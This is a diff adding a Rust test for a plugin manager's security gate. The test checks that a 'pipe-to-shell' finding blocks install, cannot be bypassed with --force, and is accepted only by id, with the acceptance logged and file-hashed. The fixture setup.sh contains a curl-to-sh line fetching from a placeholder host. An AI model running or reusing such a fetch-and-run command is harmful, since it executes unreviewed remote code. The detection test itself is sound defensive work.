@@ -196,3 +196,90 @@ fn changes_without_new_dependencies_never_touch_the_network() {
         version
     );
 }
+
+/// A `dangerous` verdict is answered per plugin and per finding, never with a global switch:
+/// refused naming each finding's id (`--force` does not pass it), accepted by id for that
+/// plugin (recorded with the flagged file's hash, and in the audit log), kept by an update
+/// that leaves that file alone, asked again by one that changes it; an id the plugin does not
+/// have is a usage error.
+#[test]
+fn a_dangerous_finding_is_accepted_per_plugin_and_asked_again_when_its_file_changes() {
+    let w = World::new();
+    let files = |setup: &str, init: &str| -> Vec<(String, String)> {
+        vec![
+            (
+                "plugin.yaml".into(),
+                "name: hinted\nversion: 1.0.0\ndescription: A plugin whose setup script pipes a download to sh\n".into(),
+            ),
+            ("__init__.py".into(), init.into()),
+            ("setup.sh".into(), setup.into()),
+        ]
+    };
+    let setup = "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\n";
+    let repo = world::repo_with(
+        &w,
+        "hinted",
+        &files(setup, "def register(ctx):\n    pass\n"),
+    );
+    let url = world::file_url(&repo);
+    let id = "pipe-to-shell@setup.sh:2";
+
+    let (code, _, err) = w.run(&["install", &url, "--force"]);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(err.contains(&format!("--accept-finding {id}")), "{err}");
+    let (code, _, err) = w.run(&[
+        "install",
+        &url,
+        "--accept-finding",
+        "pipe-to-shell@setup.sh:9",
+    ]);
+    assert_eq!(code, Some(2), "{err}");
+    assert!(
+        err.contains("no such dangerous finding") && err.contains(id),
+        "{err}"
+    );
+    assert!(w.json(&["list"])["plugins"].as_array().unwrap().is_empty());
+
+    w.ok(&["install", &url, "--accept-finding", id]);
+    let installed: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(w.pm().join("installed.json")).unwrap()).unwrap();
+    let accepted = &installed["plugins"]["hinted"]["accepted_findings"];
+    assert_eq!(accepted[0]["id"], id, "{installed:#}");
+    assert_eq!(
+        accepted[0]["sha256"].as_str().unwrap().len(),
+        64,
+        "{installed:#}"
+    );
+    let audit = std::fs::read_to_string(w.pm().join("audit.log")).unwrap();
+    assert!(
+        audit.contains("\"accept-finding\"") && audit.contains(id),
+        "{audit}"
+    );
+
+    // The flagged file unchanged: the acceptance stands.
+    world::commit(
+        &repo,
+        &files(setup, "def register(ctx):\n    pass  # 1.0.1\n"),
+        "touch init",
+    );
+    w.ok(&["update", "hinted"]);
+    // Changed: asked again, under the finding's new id.
+    let moved = format!("#!/bin/sh\nset -e\n{}", &setup["#!/bin/sh\n".len()..]);
+    world::commit(
+        &repo,
+        &files(&moved, "def register(ctx):\n    pass  # 1.0.1\n"),
+        "setup",
+    );
+    let (code, _, err) = w.run(&["update", "hinted"]);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.contains("--accept-finding pipe-to-shell@setup.sh:3"),
+        "{err}"
+    );
+    w.ok(&[
+        "update",
+        "hinted",
+        "--accept-finding",
+        "pipe-to-shell@setup.sh:3",
+    ]);
+}
